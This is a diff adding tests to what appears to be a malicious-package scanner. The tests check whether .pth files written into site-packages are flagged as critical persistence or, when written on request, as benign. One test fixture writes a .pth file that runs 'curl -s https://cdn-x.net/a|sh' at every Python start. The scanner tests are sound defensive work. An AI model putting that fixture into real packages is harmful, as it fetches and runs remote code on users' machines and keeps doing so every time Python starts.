@@ -1703,6 +1703,70 @@ def test_an_option_test_in_setup_py_still_runs_at_install():
     assert severities(result, "intent.shell-download-execute") == {"critical"}
 
 
+# -- a .pth file planted in site-packages runs at every start of Python ------------------------
+
+_PTH_IMPORT = """
+import os
+import site
+
+open(os.path.join(site.getsitepackages()[0], "zz_init.pth"), "w").write(
+    "import os;os.system('curl -s https://cdn-x.net/a|sh')"
+)
+"""
+
+_PTH_ON_REQUEST = """
+import sysconfig
+from pathlib import Path
+
+
+def enable(folder):
+    target = Path(sysconfig.get_paths()["purelib"]) / "demo_hook.pth"
+    target.write_text({content})
+"""
+
+
+def test_a_pth_file_with_code_written_into_site_packages_on_import_is_critical():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _PTH_IMPORT})
+    assert severities(result, "intent.persistence") == {"critical"}
+    assert result.verdict == "malicious"
+
+
+def test_a_pth_file_with_code_written_into_site_packages_at_install_is_critical():
+    result = scan({"setup.py": _PTH_IMPORT + SETUP})
+    assert severities(result, "intent.persistence") == {"critical"}
+    assert result.verdict == "malicious"
+
+
+@pytest.mark.parametrize(
+    "content, what",
+    [
+        ('"import demo_hook; demo_hook.install()\\n"', "code Python runs at every start"),
+        ('"/opt/demo-tool/src/python\\n"', "folders added to every start"),
+    ],
+)
+def test_a_pth_file_written_on_request_is_said(content, what):
+    """What environment tools do when asked: virtualenv's _virtualenv.pth, coverage's start-up
+    hook, an editable install's folder."""
+    src = _PTH_ON_REQUEST.format(content=content)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hook.py": src})
+    persistence = found(result, "intent.persistence")
+    assert [f.severity for f in persistence] == ["medium"]
+    assert what in persistence[0].message
+    assert result.verdict not in FLAGGED
+
+
+def test_pytorch_weights_saved_as_pth_are_not_a_startup_file():
+    src = """
+    import os
+
+    def save(model, out_dir):
+        with open(os.path.join(out_dir, "model.pth"), "wb") as f:
+            f.write(model.state_bytes())
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ckpt.py": src})
+    assert not found(result, "intent.persistence")
+
+
 # -- a module-level table of autostart files is persistence only where it is used to write -----
 
 
